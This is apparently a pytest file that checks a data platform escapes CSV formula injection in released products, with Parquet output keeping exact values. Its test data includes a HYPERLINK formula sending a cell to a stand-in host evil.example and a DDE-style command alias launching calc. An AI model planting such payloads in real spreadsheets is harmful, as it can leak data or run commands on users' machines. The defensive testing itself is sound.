"""CSV formula injection in released products (issue 19, item 7).

A provider's dimension values (``=HYPERLINK(...)``, ``+...``, ``-...``, ``@...``, a
leading tab or carriage return) and the aliases an operator chooses reached a
released ``output.csv`` as they were, so opening the product in a spreadsheet ran
them as formulas. Now the CSV escapes them as OWASP advises (a single quote in
front, the field in double quotes); ``output.parquet`` keeps the exact values and
names; the manifest and ``report.json`` say what was done. Tried through the real
server: registration by upload, the job, and the product's files downloaded.
"""

from __future__ import annotations

import csv
import io
import json

import httpx
import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from api_server import ApiServer, make_home

from sandbox.core.keys import load_public
from sandbox.core.platform import Platform
from sandbox.core.principals import authenticate
from sandbox.data.grants import add_grant
from sandbox.data.release import csv_safe, verify_product

LABELS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tTAB",
    "\rCR",
    "plain",
    "a=b",
]
FORMULA = {label for label in LABELS if label[0] in "=+-@\t\r"}
CLASSIFICATION = "entity_key: pid\ncolumns:\n  pid: identifier\n  label: dimension\n"
ALIAS = "=cmd|' /c calc'!a0"
SQL = f'SELECT label AS "{ALIAS.replace(chr(34), chr(34) * 2)}", COUNT(*) AS "@n" FROM things GROUP BY label'


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@pytest.fixture(scope="module")
def product(tmp_path_factory):
    """A released product of a count by ``label`` whose values and aliases look like formulas."""
    root = tmp_path_factory.mktemp("formula")
    home = root / "home"
    tokens = make_home(home, "[job]\nspare_worker = false\n")
    data = pa.table(
        {
            "pid": [f"P{i:05d}" for i in range(len(LABELS) * 30)],
            "label": [LABELS[i % len(LABELS)] for i in range(len(LABELS) * 30)],
        }
    )
    body = io.BytesIO()
    pacsv.write_csv(data, body)
    with ApiServer(home) as server:
        response = httpx.post(
            server.url + "/v1/datasets/upload",
            headers=_bearer(tokens["provider"]),
            data={"name": "things", "text": "pid,label"},
            files={
                "file": ("things.csv", body.getvalue(), "text/csv"),
                "classification": ("c.yaml", CLASSIFICATION.encode(), "application/yaml"),
            },
            timeout=60,
        )
        assert response.status_code == 201, response.text
        platform = Platform.open(home)
        try:
            with platform.store.read() as conn:
                authority = authenticate(conn, tokens["authority"])
            add_grant(platform, authority, "operator", "things", until="2099-12-31")
        finally:
            platform.close()
        operator = _bearer(tokens["operator"])
        job = httpx.post(server.url + "/v1/jobs", json={"sql": SQL}, headers=operator).json()
        assert job["state"] == "queued", job
        job = httpx.get(
            server.url + f"/v1/jobs/{job['job']}", params={"wait": 30}, headers=operator, timeout=90
        ).json()
        assert job["state"] == "released", job
        files = {}
        for name in ("output.csv", "output.parquet", "report.json", "manifest.json"):
            got = httpx.get(
                server.url + f"/v1/products/{job['product']}/files/{name}", headers=operator
            )
            assert got.status_code == 200, got.text
            files[name] = got.content
    yield {"home": home, "id": job["product"], "files": files}


def test_formula_values_and_aliases_are_escaped_in_the_csv(product):
    text = product["files"]["output.csv"].decode("utf-8-sig")  # a byte order mark first
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["'" + ALIAS, "'@n", "'@n_flag"]  # the measure's flag column too
    shown = {row[0] for row in body}
    expected = {("'" + label) if label in FORMULA else label for label in LABELS}
    assert shown == expected, shown
    for row in body:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert int(row[1]) > 0  # counts stay numbers
    # Every text field (values and names) is enclosed in double quotes; counts are not.
    first_line = text.split("\n", 1)[0]
    assert first_line == '"\'=cmd|\' /c calc\'!a0","\'@n","\'@n_flag"', first_line
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",' in text


def test_the_parquet_keeps_the_exact_values_and_names(product):
    table = pq.read_table(io.BytesIO(product["files"]["output.parquet"]))
    assert table.column_names == [ALIAS, "@n", "@n_flag"]
    assert set(table.column(ALIAS).to_pylist()) == set(LABELS)


def test_the_manifest_and_the_report_say_what_was_escaped(product):
    manifest = json.loads(product["files"]["manifest.json"])
    report = json.loads(product["files"]["report.json"])
    for note in (manifest["csv"], report["csv"]):
        assert note["formula_escaping"] == "owasp"
        assert "single quote" in note["rule"] and "output.parquet" in note["rule"]
        assert note["escaped_cells"] == len(FORMULA) + 3  # the values and the three names
    platform = Platform.open(product["home"])
    try:
        verify_product(
            product["home"] / "products" / product["id"], load_public(platform.public_key_path)
        )
    finally:
        platform.close()


def test_negative_numbers_stay_numbers_and_text_that_looks_negative_is_escaped():
    table = pa.table(
        {
            "county": ["-370801", "370802", None],
            "total": pa.array([-5, 7, -1], pa.int64()),
            "mean": pa.array([-1.5, 2.25, None], pa.float64()),
        }
    )
    safe, escaped = csv_safe(table)
    assert escaped == 1
    out = io.BytesIO()
    pacsv.write_csv(safe, out)
    text = out.getvalue().decode()
    assert text.splitlines() == [
        '"county","total","mean"',
        '"\'-370801",-5,-1.5',
        '"370802",7,2.25',
        ",-1,",
    ]
    back = pacsv.read_csv(io.BytesIO(out.getvalue()))
    assert back.column("total").to_pylist() == [-5, 7, -1]
    assert back.column("total").type == pa.int64()
    assert back.column("mean").to_pylist()[0] == -1.5
    # The dictionary-encoded text of a product is escaped as plain text is.
    coded, escaped = csv_safe(pa.table({"k": pa.array(["@x", "y"]).dictionary_encode()}))
    assert escaped == 1 and coded.column("k").to_pylist() == ["'@x", "y"]
